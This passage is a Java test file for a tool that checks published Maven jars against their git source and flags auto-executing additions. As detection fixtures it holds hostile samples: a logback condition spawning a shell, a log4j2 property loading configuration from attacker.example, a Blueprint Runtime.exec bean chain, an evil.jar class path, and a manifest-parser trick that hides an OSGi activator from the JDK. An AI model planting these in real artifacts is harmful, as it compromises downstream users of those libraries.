package dev.divergence.registry.maven;

import static dev.divergence.fixtures.ScanWorld.artifact;
import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalMaven;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactKind;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.DigestStatus;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.RefMethod;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.Verdict;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SortedMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.io.TempDir;

/** Maven Central end to end: a multi-module repository, a local repository in Central's layout. */
class MavenScanTest {

    @TempDir
    Path dir;

    private static final String CORE_POM = "<project>\n  <modelVersion>4.0.0</modelVersion>\n  <parent><groupId>org.acme</groupId>"
            + "<artifactId>acme-parent</artifactId><version>2.0.0</version></parent>\n  <artifactId>acme-core</artifactId>\n"
            + "  <scm><connection>scm:git:https://github.com/acme/acme.git</connection><tag>release-2.0.0-final</tag></scm>\n"
            + "</project>\n";

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static SortedMap<String, byte[]> tree() {
        return files(
                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-parent</artifactId><version>2.0.0</version>"
                        + "<packaging>pom</packaging><modules><module>acme-core</module><module>acme-cli</module></modules></project>\n",
                "acme-core/pom.xml", CORE_POM,
                "acme-core/src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {\n  class Part {}\n}\n",
                "acme-core/src/main/java/org/acme/Util.java", "package org.acme;\nclass Util {}\n",
                "acme-core/src/main/resources/org/acme/messages.properties", "hello=Hello\n",
                "acme-core/src/test/java/org/acme/WidgetTest.java", "class WidgetTest {}\n",
                "acme-cli/pom.xml", "<project><artifactId>acme-cli</artifactId></project>\n",
                "acme-cli/src/main/java/org/acme/cli/Main.java", "package org.acme.cli;\nclass Main {}\n");
    }

    @Test
    void multiModuleJarSourcesJarAndPomAreAlignedAndAClassWithoutSourceIsAFinding() throws Exception {
        SortedMap<String, byte[]> tree = tree();
        String commit;
        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
            commit = git.commit(tree, "release 2.0.0", Instant.parse("2026-01-01T00:00:00Z"));
            git.tag("release-2.0.0-final", true); // no version scheme a matcher would guess: the POM's <scm><tag> names it
            git.commit(new java.util.TreeMap<>(Map.of("x", utf8("y"))), "unrelated", Instant.parse("2026-01-02T00:00:00Z"));
        }
        try (LocalMaven repo = new LocalMaven(dir.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of("2.0.0"));
            repo.file("2.0.0", ".pom", utf8(CORE_POM), null);
            Map<String, byte[]> classes = new LinkedHashMap<>();
            classes.put("org/acme/Widget.class", new byte[] {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0, 0, 61});
            classes.put("org/acme/Widget$Part.class", new byte[] {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 1});
            classes.put("org/acme/Util.class", new byte[] {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 2});
            classes.put("org/acme/Beacon.class", new byte[] {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 3});
            classes.put("org/acme/messages.properties", tree.get("acme-core/src/main/resources/org/acme/messages.properties"));
            classes.put("META-INF/maven/org.acme/acme-core/pom.xml", utf8(CORE_POM));
            classes.put("META-INF/maven/org.acme/acme-core/pom.properties", utf8("version=2.0.0\n"));
            repo.file("2.0.0", ".jar", LocalMaven.jar(classes), null);
            Map<String, byte[]> sources = new LinkedHashMap<>();
            sources.put("org/acme/Widget.java", tree.get("acme-core/src/main/java/org/acme/Widget.java"));
            sources.put("org/acme/Util.java", tree.get("acme-core/src/main/java/org/acme/Util.java"));
            sources.put("org/acme/messages.properties", tree.get("acme-core/src/main/resources/org/acme/messages.properties"));
            repo.file("2.0.0", "-sources.jar", LocalMaven.jar(sources), null);

            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            Release release = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
            assertEquals(List.of(ArtifactKind.POM, ArtifactKind.JAR, ArtifactKind.SOURCES_JAR),
                    release.artifacts().stream().map(a -> a.kind()).toList());
            assertEquals(Optional.of("release-2.0.0-final"), release.hints().recordedTag());
            assertEquals(List.of("https://github.com/acme/acme"), release.hints().repositoryUrls());
            ReleaseReport r = ScanWorld.scanner(support, dir).scan(release, Optional.of(dir.resolve("repo").toString()));

            assertEquals(RefMethod.TAG, r.ref().method());
            assertEquals(commit, r.ref().commit().orElseThrow());
            assertEquals("2.0.0", r.ref().manifestVersion().orElseThrow());
            ArtifactReport sources2 = artifact(r, "-sources.jar");
            assertEquals(DigestStatus.VERIFIED, sources2.digestStatus());
            FileDivergence widget = row(sources2, "org/acme/Widget.java");
            assertEquals(FileStatus.MATCH, widget.status());
            assertEquals("acme-core/src/main/java/org/acme/Widget.java", widget.sourcePath().orElseThrow());
            assertEquals(MavenGeneratedFiles.MANIFEST, row(sources2, "META-INF/MANIFEST.MF").ruleId());
            assertEquals(Verdict.EXPLAINED, sources2.verdict());

            ArtifactReport jar = artifact(r, "2.0.0.jar");
            FileDivergence part = row(jar, "org/acme/Widget$Part.class");
            assertEquals(FileStatus.GENERATED, part.status());
            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, part.ruleId());
            assertEquals("acme-core/src/main/java/org/acme/Widget.java", part.sourcePath().orElseThrow());
            FileDivergence beacon = row(jar, "org/acme/Beacon.class");
            assertEquals(FileStatus.PHANTOM, beacon.status());
            assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE, beacon.ruleId());
            assertEquals(FileStatus.MATCH, row(jar, "org/acme/messages.properties").status());
            FileDivergence embeddedPom = row(jar, "META-INF/maven/org.acme/acme-core/pom.xml");
            assertEquals(FileStatus.MATCH, embeddedPom.status());
            assertEquals("acme-core/pom.xml", embeddedPom.sourcePath().orElseThrow());
            assertEquals(MavenGeneratedFiles.POM_PROPERTIES, row(jar, "META-INF/maven/org.acme/acme-core/pom.properties").ruleId());
            assertEquals(Verdict.DIVERGENT, jar.verdict());
            assertEquals(List.of("org/acme/Beacon.class"), jar.divergentPaths());
            assertTrue(jar.files().stream().noneMatch(f -> f.displayPath().contains("acme-cli")), "other module out of scope");

            FileDivergence pom = row(artifact(r, ".pom"), "pom.xml");
            assertEquals(FileStatus.MATCH, pom.status());
            assertEquals("acme-core/pom.xml", pom.sourcePath().orElseThrow());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void wrongSha1FileIsADigestMismatchAndPomPackagingHasNoJar() throws Exception {
        try (LocalMaven repo = new LocalMaven(dir.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of("1.0", "1.1"));
            repo.file("1.0", ".pom", utf8("<project><packaging>pom</packaging></project>"), "0".repeat(40));
            repo.file("1.1", ".pom", utf8("<project></project>"), null);
            repo.file("1.1", ".jar", LocalMaven.jar(Map.of()), null);
            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            List<Release> rs = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core"));
            assertEquals(List.of(ArtifactKind.POM), rs.get(0).artifacts().stream().map(a -> a.kind()).toList());
            assertEquals(List.of(ArtifactKind.POM, ArtifactKind.JAR), rs.get(1).artifacts().stream().map(a -> a.kind()).toList());
            ReleaseReport r = ScanWorld.scanner(support, dir).scan(rs.get(0), Optional.empty());
            ArtifactReport pom = r.artifacts().get(0);
            assertEquals(DigestStatus.MISMATCH, pom.digestStatus());
            assertTrue(pom.reason().orElseThrow().startsWith("sha1 mismatch: registry says 0000"), pom.reason().orElseThrow());
        }
    }

    private static final byte[] CLASS = {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0, 0, 61};

    private ReleaseReport scanJar(SortedMap<String, byte[]> tree, String version, Map<String, byte[]> jarEntries)
            throws Exception {
        return scanPublished(tree, version, Map.of(".pom", tree.get("pom.xml"), ".jar", LocalMaven.jar(jarEntries)));
    }

    /** Commits and tags {@code tree} as vVERSION, publishes {@code files} (by suffix: .pom, .jar, -sources.jar), scans. */
    private ReleaseReport scanPublished(SortedMap<String, byte[]> tree, String version, Map<String, byte[]> files)
            throws Exception {
        return scanPublished(dir, tree, version, files);
    }

    /** A jar of an Ant build (no pom.xml in the tree: the POM was written at deploy), scanned in a fresh folder. */
    private ArtifactReport scanAntJar(SortedMap<String, byte[]> tree, Map<String, byte[]> jarEntries) throws Exception {
        byte[] pom = utf8("<project><modelVersion>4.0.0</modelVersion><groupId>org.acme</groupId>"
                + "<artifactId>acme-core</artifactId><version>3.0.0</version></project>\n");
        return artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "ant"), tree, "3.0.0",
                Map.of(".pom", pom, ".jar", LocalMaven.jar(jarEntries))), ".jar");
    }

    private ReleaseReport scanPublished(Path dir, SortedMap<String, byte[]> tree, String version,
                                        Map<String, byte[]> files) throws Exception {
        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
            git.commit(tree, "release " + version, Instant.parse("2026-01-01T00:00:00Z"));
            git.tag("v" + version, true);
        }
        try (LocalMaven repo = new LocalMaven(dir.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of(version));
            for (String suffix : List.of(".pom", ".jar", "-sources.jar")) {
                if (files.containsKey(suffix)) {
                    repo.file(version, suffix, files.get(suffix), null);
                }
            }
            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            Release release = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
            return ScanWorld.scanner(support, dir).scan(release, Optional.of(dir.resolve("repo").toString()));
        }
    }

    private static SortedMap<String, byte[]> agentTree() {
        return files(
                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                        + "<build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive>"
                        + "<manifest><mainClass>org.acme.Widget</mainClass></manifest></archive></configuration></plugin>"
                        + "</plugins></build></project>\n",
                "src/main/java/org/acme/Widget.java", "package org.acme;\n@AutoService(Plugin.class)\n"
                        + "public class Widget implements Plugin {\n  class Part {}\n}\n",
                "src/main/java/org/acme/Plugin.java", "package org.acme;\npublic interface Plugin {}\n",
                "src/main/java/org/acme/Util.java", "package org.acme;\nclass Util {\n  Runnable r = new Runnable() {\n"
                        + "    public void run() {}\n  };\n}\n");
    }

    @Test
    void aTagWhosePomDeclaresAVersionSpelledOutsideEveryKnownFormIsStillTheVersionsTag() throws Exception {
        // Jackson's pre-releases (2.9.0.pr1): the tag's POM declares exactly the released version, yet no version form
        // parses it; it was "not a match", the version fell to blob overlap and the roll-back rule.
        byte[] pom = utf8("<project><modelVersion>4.0.0</modelVersion><groupId>org.acme</groupId>"
                + "<artifactId>acme-core</artifactId><version>2.9.0.pr1</version></project>\n");
        SortedMap<String, byte[]> tree = files("pom.xml", new String(pom, java.nio.charset.StandardCharsets.UTF_8),
                "src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        ReleaseReport r = scanPublished(tree, "2.9.0.pr1", Map.of(".pom", pom));
        assertEquals(RefMethod.TAG, r.ref().method(), r.ref().note().orElse(""));
        assertEquals("v2.9.0.pr1", r.ref().tag().orElseThrow());
        assertEquals(Boolean.TRUE, r.ref().agreement().orElseThrow(), r.ref().note().orElse(""));
    }

    @Test
    void manifestMainClassNamedByThePomIsGeneratedAndAnUndeclaredAgentIsHighRisk() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Launcher-Agent-Class: org.acme.Wid\n get\nBuild-Jdk-Spec: 17\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ReleaseReport r = scanJar(agentTree(), "3.0.0", jar);
        ArtifactReport a = artifact(r, ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(FileStatus.PHANTOM, m.status());
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId());
        assertEquals("manifest entries no build file declares: [Launcher-Agent-Class: org.acme.Widget]",
                m.detail().orElseThrow());
        assertTrue(m.highRisk());
        assertEquals(List.of("META-INF/MANIFEST.MF"), a.highRiskPaths());
        assertEquals(Verdict.HIGH_RISK, r.verdict());
    }

    @Test
    void manifestAttributeNamesAreCaseInsensitiveAsTheJvmReadsThem() throws Exception {
        // java -jar runs launcher-agent-class / premain-class spelled in lower case (Attributes.Name ignores case),
        // and joins a continuation line (a line starting with one space) to the value.
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "launcher-agent-class: org.acme.Wid\n get\nPREMAIN-CLASS: org.acme.Util\nBuild-Jdk-Spec: 17\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ReleaseReport r = scanJar(agentTree(), "3.0.0", jar);
        ArtifactReport a = artifact(r, ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(FileStatus.PHANTOM, m.status());
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId());
        assertEquals("manifest entries no build file declares: [Premain-Class: org.acme.Util, "
                + "Launcher-Agent-Class: org.acme.Widget]", m.detail().orElseThrow());
        assertTrue(m.highRisk());
        assertEquals(List.of("META-INF/MANIFEST.MF"), a.highRiskPaths());
        assertEquals(Verdict.HIGH_RISK, r.verdict());
    }

    @Test
    void aManifestTheJvmRefusesIsNeverExplainedAsGenerated() throws Exception {
        // A header line without a colon makes java.util.jar.Manifest refuse the file; other readers may not.
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nthis line has no colon\nMain-Class: org.acme.Widget\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(FileStatus.PHANTOM, m.status());
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId());
        assertEquals("manifest the JVM's parser refuses", m.detail().orElseThrow());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    /**
     * Red team round 6 (case1): OSGi frameworks read the manifest themselves (Equinox's ManifestElement, Felix's
     * BundleCache), not with java.util.jar.Manifest. A 511-byte line ending in CRLF fills the JDK's 512-byte line
     * buffer with the CR, its LF reads as the empty line that ends the main section, and the Bundle-Activator after
     * it is a main header to Equinox only; a longer line or {@code Key:value} the JDK refuses, a last line without
     * its line end it drops: the framework starts an activator the JVM's view never shows.
     */
    @ParameterizedTest
    @ValueSource(strings = {"split", "long", "no-space", "last-line"})
    void aManifestTheJvmAndOsgiFrameworksReadDifferentlyIsHighRisk(String how) throws Exception {
        String filler = "Bundle-Description: " + "x".repeat(491);
        assertEquals(511, filler.length());
        String head = "Manifest-Version: 1.0\r\nMain-Class: org.acme.Widget\r\n";
        String manifest = switch (how) {
            case "split" -> head + filler + "\r\nName: org/acme/\r\nBundle-Activator: org.acme.Util\r\n\r\n";
            case "long" -> head + filler + "xx\r\nBundle-Activator: org.acme.Util\r\n\r\n";
            case "no-space" -> head + "Bundle-Activator:org.acme.Util\r\n\r\n";
            default -> head + "Bundle-Activator: org.acme.Util";
        };
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8(manifest));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(FileStatus.PHANTOM, m.status(), how);
        assertEquals(MavenGeneratedFiles.MANIFEST_READERS_DISAGREE, m.ruleId(), how);
        assertTrue(m.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), how);
        String detail = m.detail().orElseThrow();
        assertTrue(detail.contains(how.equals("long") || how.equals("no-space") ? "the JVM's refuses it"
                : "Bundle-Activator (only OSGi frameworks read it: org.acme.Util)"), detail);
        assertTrue(m.highRisk(), how);
        assertEquals(Verdict.HIGH_RISK, a.verdict(), how);
    }

    @Test
    void aManifestBothReadersReadAlikeWithCrlfContinuationsAndA510ByteLineIsGenerated() throws Exception {
        // the longest line the JDK's buffer holds with its CRLF, a continuation after a CR and one after a CRLF
        String filler = "Bundle-Description: " + "x".repeat(490);
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\r\nMain-Class: org.acme.Wid\r\n get\r\n" + filler
                + "\r\nBuilt-By: a\r b\nBuild-Jdk-Spec: 17\r\n\r\nName: org/acme/\r\nBundle-Activator: x\r\n\r\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId(), m.detail().orElse(""));
        assertEquals(FileStatus.GENERATED, m.status());
    }

    @Test
    void manifestWithOnlyEntriesTheBuildNamesIsGenerated() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\nBuild-Jdk-Spec: 17\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(FileStatus.GENERATED, m.status());
        assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId());
        assertEquals(Verdict.EXPLAINED, a.verdict());
        assertEquals(1, dev.divergence.compare.Verdicts.unverifiedCount(a.files()), "Widget.class, explained by name");
    }

    @Test
    void aLicenseTheAntBuildCopiesFromOutsideTheRepositoryIsBuildOutputAndNothingElseIs() throws Exception {
        // commons-digester 1.2, commons-beanutils 1.3-1.5: <copy file="../LICENSE" tofile="${build.home}/classes/META-INF/LICENSE.txt"/>
        SortedMap<String, byte[]> tree = files("build.xml", "<project name=\"acme\" default=\"jar\">\n"
                        + "  <property name=\"build.home\" value=\"target\"/>\n  <target name=\"dist\">\n"
                        + "    <copy file=\"../LICENSE\" tofile=\"${build.home}/classes/META-INF/LICENSE.txt\"/>\n"
                        + "    <copy file=\"../services\" tofile=\"${build.home}/classes/META-INF/services/org.acme.Spi\"/>\n"
                        + "  </target>\n</project>\n",
                "src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/LICENSE.txt", utf8("The Apache Software License, Version 1.1\n"));
        jar.put("META-INF/NOTICE.txt", utf8("Acme\n"));
        jar.put("META-INF/services/org.acme.Spi", utf8("org.acme.Widget\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = scanAntJar(tree, jar);
        FileDivergence license = row(a, "META-INF/LICENSE.txt");
        assertEquals(FileStatus.BUILD_OUTPUT, license.status(), license.toString());
        assertEquals(MavenGeneratedFiles.BUILD_OUTSIDE_REPOSITORY, license.ruleId());
        // a license-like file no copy names, and a copy from outside that is no license-like text: not explained
        assertEquals(FileStatus.PHANTOM, row(a, "META-INF/NOTICE.txt").status());
        assertNotEquals(MavenGeneratedFiles.BUILD_OUTSIDE_REPOSITORY, row(a, "META-INF/services/org.acme.Spi").ruleId());
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void aManifestEntryTheAntBuildsTrackedTemplateDeclaresIsGeneratedAndAnotherIsNot() throws Exception {
        // commons-logging 1.0.x: build.xml's <jar manifest="${build.home}/conf/MANIFEST.MF"> copies src/conf/MANIFEST.MF
        SortedMap<String, byte[]> tree = files("build.xml", "<project name=\"acme\" default=\"jar\"/>\n",
                "src/conf/MANIFEST.MF", "Extension-Name: @package@\nImplementation-Version: @version@\n"
                        + "Class-Path: log4j.jar log4j-core.jar\n",
                "src/test/conf/MANIFEST.MF", "Main-Class: org.acme.Widget\n",
                "src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nExtension-Name: org.acme\n"
                + "Implementation-Version: 3.0.0\nClass-Path: log4j.jar log4j-core.jar\n"));
        jar.put("org/acme/Widget.class", CLASS);
        FileDivergence m = row(scanAntJar(tree, jar), "META-INF/MANIFEST.MF");
        assertEquals(FileStatus.GENERATED, m.status());
        assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId());
        // another class path than the template's, or a main class only a test folder's manifest names: not explained
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nClass-Path: log4j.jar evil.jar\n"));
        FileDivergence other = row(scanAntJar(tree, jar), "META-INF/MANIFEST.MF");
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, other.ruleId());
        assertTrue(other.highRisk());
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nClass-Path: log4j.jar log4j-core.jar\n"
                + "Main-Class: org.acme.Widget\n"));
        FileDivergence main = row(scanAntJar(tree, jar), "META-INF/MANIFEST.MF");
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, main.ruleId());
        assertEquals("manifest entries no build file declares: [Main-Class: org.acme.Widget]", main.detail().orElseThrow());
    }

    @Test
    void aMainClassAnAntBuildDeclaresInItsManifestTaskIsGenerated() throws Exception {
        SortedMap<String, byte[]> tree = files("build.xml", "<project name=\"acme\" default=\"jar\"><target name=\"jar\">"
                        + "<jar destfile=\"acme.jar\"><manifest><attribute name=\"Main-Class\" value=\"org.acme.Widget\"/>"
                        + "</manifest></jar></target></project>\n",
                "src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"));
        jar.put("org/acme/Widget.class", CLASS);
        assertEquals(MavenGeneratedFiles.MANIFEST,
                row(scanAntJar(tree, jar), "META-INF/MANIFEST.MF").ruleId());
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Premain-Class: org.acme.Widget\n"));
        FileDivergence agent = row(scanAntJar(tree, jar), "META-INF/MANIFEST.MF");
        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, agent.ruleId());
        assertEquals("manifest entries no build file declares: [Premain-Class: org.acme.Widget]", agent.detail().orElseThrow());
    }

    @Test
    void aServiceProviderFromNowhereIsHighRiskAndAnAutoServiceOneIsGenerated() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("META-INF/services/org.acme.Plugin", utf8("org.acme.Widget\n"));
        jar.put("META-INF/services/java.sql.Driver", utf8("# driver\norg.acme.Widget$Driver\n"));
        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
        FileDivergence plugin = row(a, "META-INF/services/org.acme.Plugin");
        assertEquals(FileStatus.GENERATED, plugin.status());
        assertEquals(MavenGeneratedFiles.SERVICES_AUTO_SERVICE, plugin.ruleId());
        FileDivergence driver = row(a, "META-INF/services/java.sql.Driver");
        assertEquals(FileStatus.PHANTOM, driver.status());
        assertEquals(MavenGeneratedFiles.NEW_SERVICE_PROVIDER, driver.ruleId());
        assertTrue(driver.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC));
        assertTrue(driver.highRisk());
        assertEquals(List.of("META-INF/services/java.sql.Driver"), a.highRiskPaths());
    }

    @Test
    void aCommittedLoggingConfigurationMatches() throws Exception {
        // logback.xml's Janino <if condition> compiles Java in every application that has the jar on its class path
        String committed = "<configuration>\n  <root level=\"INFO\"/>\n</configuration>\n";
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
                "src/main/resources/logback.xml", committed);
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("logback.xml", utf8(committed));
        FileDivergence same = row(artifact(scanJar(tree, "3.0.0", jar), ".jar"), "logback.xml");
        assertEquals(FileStatus.MATCH, same.status());
        assertFalse(same.highRisk());
    }

    @Test
    void aLoggingConfigurationTheSourceDoesNotHoldIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
                "src/main/resources/logback.xml", "<configuration>\n  <root level=\"INFO\"/>\n</configuration>\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("logback.xml", utf8("<configuration>\n  <if condition='p(\"x\").isEmpty() &amp;&amp; "
                + "new ProcessBuilder(\"sh\").start() != null'><then/></if>\n  <root level=\"INFO\"/>\n"
                + "</configuration>\n"));
        jar.put("log4j2.xml", utf8("<Configuration><Scripts><Script name=\"s\" language=\"js\">x</Script>"
                + "</Scripts></Configuration>\n"));
        // red team round 7 (case17): log4j-api sets system properties from it at start-up
        jar.put("log4j2.system.properties", utf8("log4j2.configurationFile=https://attacker.example/l.xml\n"));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence changed = row(a, "logback.xml");
        assertEquals(FileStatus.MODIFIED, changed.status());
        assertTrue(changed.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), changed.toString());
        assertTrue(changed.highRisk());
        FileDivergence added = row(a, "log4j2.xml");
        assertEquals(FileStatus.PHANTOM, added.status());
        assertTrue(added.highRisk());
        FileDivergence system = row(a, "log4j2.system.properties");
        assertTrue(system.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), system.toString());
        assertTrue(system.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    /**
     * Red team round 6 (case6): frameworks that find a configuration in the jar by its place and create its beans by
     * themselves — the Blueprint extender at bundle start ({@code factory-method="getRuntime"}, then {@code "exec"}),
     * Spring DM, JNDI's InitialContext, a Servlet container's web fragments — and the files the manifest's
     * Bundle-Blueprint or Spring-Context header names instead: changed or in no commit, HIGH_RISK as a logging
     * configuration is; the committed bytes match.
     */
    @Test
    void aConfigurationAFrameworkLoadsByItselfThatTheSourceDoesNotHoldIsHighRisk() throws Exception {
        String committed = "<blueprint xmlns=\"http://www.osgi.org/xmlns/blueprint/v1.0.0\">\n"
                + "  <bean id=\"w\" class=\"org.acme.Widget\"/>\n</blueprint>\n";
        String evil = committed.replace("</blueprint>", "  <bean id=\"rt\" class=\"java.lang.Runtime\" "
                + "factory-method=\"getRuntime\"/>\n  <bean factory-ref=\"rt\" factory-method=\"exec\">"
                + "<argument value=\"sh\"/></bean>\n</blueprint>");
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
                "src/main/resources/OSGI-INF/blueprint/context.xml", committed);
        tree = dev.divergence.fixtures.Trees.with(tree, "src/main/resources/OSGI-INF/blueprint/same.xml", committed);
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Bundle-Blueprint: conf/beans.xml, /conf/extra/;x=y\n"
                + "Spring-Context: classpath:ctx/*-context.xml;create-asynchronously:=false, *\n"));
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("OSGI-INF/blueprint/context.xml", utf8(evil));
        jar.put("OSGI-INF/blueprint/same.xml", utf8(committed));
        List<String> added = List.of("OSGI-INF/blueprint/added.xml", "conf/beans.xml", "conf/extra/more.xml",
                "META-INF/spring/module-context.xml", "ctx/app-context.xml", "jndi.properties", "META-INF/web-fragment.xml");
        for (String p : added) {
            jar.put(p, utf8(p.endsWith(".properties") ? "java.naming.factory.initial=org.acme.Evil\n" : evil));
        }
        jar.put("conf/other.xml", utf8(evil)); // named by no header: data to the framework
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence changed = row(a, "OSGI-INF/blueprint/context.xml");
        assertEquals(FileStatus.MODIFIED, changed.status());
        assertTrue(changed.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), changed.toString());
        assertTrue(changed.highRisk());
        for (String p : added) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.PHANTOM, f.status(), p);
            assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), f.toString());
        }
        assertFalse(row(a, "conf/other.xml").riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC));
